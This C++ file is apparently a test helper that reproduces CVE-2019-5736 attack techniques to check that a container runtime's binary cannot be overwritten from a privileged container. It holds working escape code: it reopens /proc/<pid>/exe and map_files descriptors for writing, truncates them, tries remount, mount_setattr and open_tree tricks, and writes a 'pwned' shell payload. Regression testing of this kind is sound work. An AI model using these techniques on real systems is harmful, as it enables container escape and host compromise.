// The CVE-2019-5736 attacker for runtime_binary_test, run inside a
// privileged container that shares the host's pid namespace. Static, so it
// needs nothing from the image.
//
//   exe_attacker <shared dir>
//
// Round r (1, 2, ...): waits for <dir>/targets<r> (pids), takes an O_PATH
// fd to each /proc/<pid>/exe and to each of its /proc/<pid>/map_files
// entries, tries to open the exe for writing directly, reads its ELF magic
// as a control, and writes <dir>/held<r>. On <dir>/go (the
// targets are gone or run something else, so no ETXTBSY protects the file
// any more): reopens every fd it kept through /proc/self/fd for writing,
// and tries what a privileged container could do to make the file's mount
// writable (remount, mount_setattr, a clone with open_tree). Each attempt
// is one line "<kind> <what>: <ok|errno name>" in <dir>/result, then
// <dir>/done appears. kind "write" must never be ok; "control" must.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

namespace {

std::string g_dir;
std::string g_report;

std::string Path(const std::string& name) { return g_dir + "/" + name; }
std::string ProcFd(int fd) { return "/proc/self/fd/" + std::to_string(fd); }

void Report(const std::string& kind, const std::string& what, int err) {
  g_report += kind + " " + what + ": " +
              (err == 0 ? std::string("ok") : strerrorname_np(err)) + "\n";
}

bool Exists(const std::string& path) { return access(path.c_str(), F_OK) == 0; }

void Touch(const std::string& path, const std::string& contents) {
  const std::string tmp = path + ".tmp";
  std::ofstream(tmp) << contents;
  rename(tmp.c_str(), path.c_str());
}

// Opens `path` with `flags` and, if that works, writes: the write is what
// counts (a sealed memfd opens for writing but refuses the write).
void TryWrite(const std::string& what, const std::string& path, int flags) {
  int fd = open(path.c_str(), flags | O_CLOEXEC);
  if (fd < 0) return Report("write", what, errno);
  static const char kPayload[] = "#!/bin/sh\necho pwned\n";
  const ssize_t n = pwrite(fd, kPayload, sizeof(kPayload) - 1, 0);
  const int err = n > 0 ? 0 : (n < 0 ? errno : EIO);
  close(fd);
  Report("write", what, err);
}

void TryTruncate(const std::string& what, const std::string& path) {
  Report("write", what, truncate(path.c_str(), 0) == 0 ? 0 : errno);
}

bool ReadsElfMagic(int fd, int* err) {
  int rd = open(ProcFd(fd).c_str(), O_RDONLY | O_CLOEXEC);
  if (rd < 0) {
    *err = errno;
    return false;
  }
  char magic[4] = {};
  const bool ok =
      pread(rd, magic, 4, 0) == 4 && memcmp(magic, "\177ELF", 4) == 0;
  *err = ok ? 0 : EIO;
  close(rd);
  return ok;
}

// Privileged ways to a writable mount of the file, then a write through it.
void TryMountTricks(const std::string& tag, int fd) {
  const std::string path = ProcFd(fd);
  Report(
      "info", tag + " remount rw",
      mount(nullptr, path.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0
          ? 0
          : errno);
  TryWrite(tag + " after remount", path, O_WRONLY);
  struct mount_attr attr = {};
  attr.attr_clr = MOUNT_ATTR_RDONLY;
  Report("info", tag + " mount_setattr rw",
         mount_setattr(fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0
             ? 0
             : errno);
  TryWrite(tag + " after mount_setattr", path, O_WRONLY);
  int tree =
      open_tree(fd, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
  Report("info", tag + " open_tree clone", tree >= 0 ? 0 : errno);
  if (tree >= 0) {
    mount_setattr(tree, "", AT_EMPTY_PATH, &attr, sizeof(attr));
    TryWrite(tag + " through the clone", ProcFd(tree), O_WRONLY);
    close(tree);
  }
}

struct Held {
  std::string tag;
  int fd;
};

std::vector<Held> HoldTargets(int round) {
  std::vector<Held> held;
  std::ifstream in(Path("targets" + std::to_string(round)));
  pid_t pid;
  while (in >> pid) {
    const std::string tag =
        "r" + std::to_string(round) + " pid " + std::to_string(pid);
    const std::string exe = "/proc/" + std::to_string(pid) + "/exe";
    TryWrite(tag + " open O_WRONLY", exe, O_WRONLY);
    TryWrite(tag + " open O_RDWR", exe, O_RDWR);
    int fd = open(exe.c_str(), O_PATH | O_CLOEXEC);
    Report(round == 1 ? "control" : "info", tag + " O_PATH",
           fd >= 0 ? 0 : errno);
    if (fd < 0) continue;
    int err = 0;
    ReadsElfMagic(fd, &err);
    Report(round == 1 ? "control" : "info", tag + " reads ELF", err);
    held.push_back({tag, fd});
    // The same file through the target's mappings (CAP_SYS_ADMIN).
    const std::string maps = "/proc/" + std::to_string(pid) + "/map_files";
    if (DIR* dir = opendir(maps.c_str())) {
      while (dirent* entry = readdir(dir)) {
        if (entry->d_name[0] == '.') continue;
        const std::string map = maps + "/" + entry->d_name;
        int map_fd = open(map.c_str(), O_PATH | O_CLOEXEC);
        Report("info", tag + " map_files O_PATH", map_fd >= 0 ? 0 : errno);
        if (map_fd >= 0)
          held.push_back({tag + " map " + entry->d_name, map_fd});
      }
      closedir(dir);
    }
  }
  return held;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  g_dir = argv[1];
  std::vector<Held> held;
  for (int round = 1;; ++round) {
    const std::string targets = Path("targets" + std::to_string(round));
    while (!Exists(targets) && !Exists(Path("go"))) usleep(2000);
    if (!Exists(targets)) break;
    for (Held& h : HoldTargets(round)) held.push_back(h);
    Touch(Path("held" + std::to_string(round)), "");
  }
  for (const Held& h : held) {
    const std::string path = ProcFd(h.fd);
    TryWrite(h.tag + " reopen O_WRONLY", path, O_WRONLY);
    TryWrite(h.tag + " reopen O_RDWR", path, O_RDWR);
    TryWrite(h.tag + " reopen O_WRONLY|O_APPEND", path, O_WRONLY | O_APPEND);
    TryTruncate(h.tag + " truncate", path);
    TryMountTricks(h.tag, h.fd);
  }
  Touch(Path("result"), g_report);
  Touch(Path("done"), "");
  return 0;
}
